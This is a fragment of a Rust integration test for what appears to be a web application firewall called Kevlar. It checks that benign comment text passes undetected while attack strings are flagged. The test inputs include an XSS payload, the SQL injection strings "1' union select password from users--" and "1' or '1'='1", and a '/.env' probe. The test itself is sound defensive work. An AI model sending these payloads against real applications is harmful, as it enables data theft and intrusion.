    let cfg = "[[detect.text]]\npath = \"/posts\"\nargs = [\"comment\"]\n";
    let k = Kevlar::guard(&format!("http://{addr}")).config(cfg).args(["--trusted-proxy", "127.0.0.1"]).start();
    let c = client();
    let post = |field: &str, v: &str| {
        let body = format!("{field}={}", common::form_encode(v));
        c.post(k.url("/posts/1")).header("content-type", "application/x-www-form-urlencoded").body(body).send()
    };
    for (field, v) in [
        ("comment", "price >= 10 and price <= 20"),
        ("comment", "a || b; if (x && y) return null;"),
        ("comment", "the ../images folder, then ./thumbs"),
        ("comment", "<%= render partial: \"form\" %> and {{name}}"),
        ("comment", "<script>alert(1)</script>"),
        ("comment", "1' union select password from users--"),
        ("id", "price >= 10 and price <= 20"),
    ] {
        assert_eq!(post(field, v).await.unwrap().status(), 200);
    }
    let _ = c.get(k.url("/.env")).send().await.unwrap();
    k.wait_event(|e| e["url"]["path"] == "/.env");
    let found: Vec<(String, String)> = family_events(&k)
        .iter()
        .filter(|e| e["url"]["path"] == "/posts/1")
        .map(|e| (family_of(e).to_owned(), e["kevlar"]["location"].as_str().unwrap_or("").to_owned()))
        .collect();
    assert_eq!(
        found,
        [
            ("xss".to_owned(), "body.comment".to_owned()),
            ("sqli".into(), "body.comment".into()),
            ("sqli".into(), "body.id".into())
        ],
        "weak shapes in the configured field are not findings; XSS, a UNION SELECT and other fields are"
    );

    // Learned: the same weak shape in one field from five clients answered 200; then no more.
    let msg = common::form_encode("price >= 10 and price <= 20");
    for client_ip in ["203.0.113.1", "203.0.113.2", "203.0.113.3", "203.0.113.4", "203.0.113.5", "203.0.113.6"] {
        let r = c.get(k.url(&format!("/feedback/7?msg={msg}"))).header("x-forwarded-for", client_ip).send().await;
        assert_eq!(r.unwrap().status(), 200);
    }
    let _ = c.get(k.url(&format!("/feedback/8?id={msg}"))).send().await.unwrap();
    let _ = c.get(k.url(&format!("/feedback/9?msg={}", common::form_encode("1' or '1'='1")))).send().await.unwrap();
    k.wait_event(|e| e["url"]["path"] == "/feedback/9");
    let feedback: Vec<String> = family_events(&k)
        .iter()
        .filter(|e| e["url"]["path"].as_str().unwrap_or("").starts_with("/feedback/"))
        .map(|e| format!("{} {}", e["url"]["path"].as_str().unwrap(), e["source"]["ip"].as_str().unwrap()))
        .collect();
    assert_eq!(
        feedback,
        [
            "/feedback/7 203.0.113.1",
            "/feedback/7 203.0.113.2",
            "/feedback/7 203.0.113.3",
            "/feedback/7 203.0.113.4",
            "/feedback/7 203.0.113.5",
            "/feedback/8 127.0.0.1",
            "/feedback/9 127.0.0.1",
        ]
    );
    let (code, out, _) = kevlar_cli(&k.data_dir, &["status", "--json"]);
    assert_eq!(code, 0);
    let v: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["detection"]["text_fields_learned"], 1);
}
